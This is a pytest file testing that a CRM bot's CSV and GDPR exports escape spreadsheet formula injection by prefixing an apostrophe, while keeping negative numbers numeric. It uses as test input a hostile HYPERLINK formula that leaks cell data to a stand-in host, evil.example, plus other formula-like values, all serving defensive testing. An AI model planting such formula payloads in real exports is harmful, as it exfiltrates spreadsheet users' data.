"""Point 5 of issue 11 and point 11 of issue 12: `crmbot export` writes what a person opens
in a spreadsheet (names, decimal amounts, stage labels, dates), and no cell can run as a
formula there (OWASP: a leading ' on text starting with = + - @ tab or CR)."""

from __future__ import annotations

import csv
import io

import pytest
from cli_db import cli_database_url

from bot.cli import main as cli


@pytest.fixture(params=["sqlite", "postgresql"])
def cli_db(request, tmp_path, monkeypatch):
    """The CLI on a SQLite file, and a console on the same file to fill it."""
    from bot.app import build_app
    from bot.config import load_config
    from bot.console import ConsoleAdapter
    from storage.db import transaction
    from storage.workspaces import get_or_create_workspace

    monkeypatch.setenv("CRMBOT_DATABASE_URL", cli_database_url(request, tmp_path))
    monkeypatch.chdir(tmp_path)
    app = build_app(load_config())
    with transaction(app.sessions) as s:
        ws_id = get_or_create_workspace(s, "default", "Europe/Madrid", "EUR").id
    yield ConsoleAdapter(app.bot, ws_id, "ana", "Europe/Madrid")
    app.engine.dispose()


def _export(tmp_path, table):
    out = tmp_path / f"{table}.csv"
    assert cli(["export", table, "--out", str(out)]) == 0
    return list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))


def test_export_sheet_has_names_decimal_amounts_stage_labels_and_dates(cli_db, tmp_path):
    console = cli_db
    console.say("settings stage closing label=Negotiation")
    console.say("contact add Maria Lopez email=maria@acme.com account=Acme")
    console.say("deal add Acme renewal 12,345.67 EUR contact=Maria Lopez stage=closing "
                "close=2026-12-31")  # fmt: skip
    (deal,) = _export(tmp_path, "deals")
    assert deal["title"] == "Acme renewal"
    assert deal["account"] == "Acme" and deal["contact"] == "Maria Lopez"
    assert deal["owner"] == "ana"
    assert deal["stage"] == "Negotiation"
    assert deal["amount"] == "12345.67" and deal["currency"] == "EUR"
    assert deal["expected close"] == "2026-12-31"
    assert not any(k.endswith("_id") or k.endswith("_minor") for k in deal), deal.keys()
    (contact,) = _export(tmp_path, "contacts")
    assert contact["account"] == "Acme" and contact["owner"] == "ana"
    assert "name_key" not in contact and len(contact["created"]) == 10  # a date


def test_export_escapes_formulas_but_keeps_negative_numbers(cli_db, tmp_path):
    console = cli_db
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    console.say(f"contact add {hostile} title=+1 boss")
    console.say("contact add @sum(A1) title=-2+3")
    console.say("account add -Minus Corp")
    console.say("deal add Refund 1500 EUR account=-Minus Corp")
    # chat refuses negative amounts; an older import or a credit note may hold one
    from sqlalchemy import update

    from storage.db import transaction
    from storage.models import Opportunity

    with transaction(console.bot.sessions) as s:
        s.execute(update(Opportunity).values(amount_minor=-150000))
    contacts = _export(tmp_path, "contacts")
    names = [c["name"] for c in contacts]
    assert names == ["'" + hostile, "'@sum(A1)"], names
    assert [c["title"] for c in contacts] == ["'+1 boss", "'-2+3"]
    (deal,) = _export(tmp_path, "deals")
    assert deal["account"] == "'-Minus Corp"
    assert deal["amount"] == "-1500.00"  # a number stays a number
    # every cell of every table: nothing starts a formula
    for table in ("contacts", "accounts", "deals", "activities", "users", "audit_log"):
        for row in _export(tmp_path, table):
            for value in row.values():
                assert value[:1] not in ("=", "+", "@", "\t", "\r"), (table, value)
                if value.startswith("-"):
                    float(value)  # only numbers may start with a minus


def test_gdpr_contact_export_as_csv_escapes_formulas(console):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    console.say(f"contact add {hostile} email=eve@evil.example title=@boss")
    console.say("log note #c1: -1+2 said hi")
    out = console.say("contact export #c1 format=csv")
    body = out[out.index("part,item,field,value") :]
    rows = list(csv.reader(io.StringIO(body)))
    values = [r[3] for r in rows[1:] if len(r) == 4]
    assert "'" + hostile in values and "'@boss" in values and "'-1+2 said hi" in values
    assert not any(v[:1] in ("=", "+", "@") for v in values)
    # the JSON export keeps the data as held (portability), for no spreadsheet reads it
    assert hostile.replace('"', '\\"') in console.say("contact export #c1")


def test_export_sheet_lists_second_emails_and_phones(cli_db, tmp_path):
    console = cli_db
    console.say("contact add Maria Lopez email=maria@acme.com phone=+34 600 111 222")
    console.say("contact edit Maria Lopez email+=maria@home.es phone+=+34 699 000 111")
    (c,) = _export(tmp_path, "contacts")
    assert (c["email"], c["other emails"]) == ("maria@acme.com", "maria@home.es")
    assert c["other phones"] == "'+34 699 000 111"  # a leading + is escaped like any text
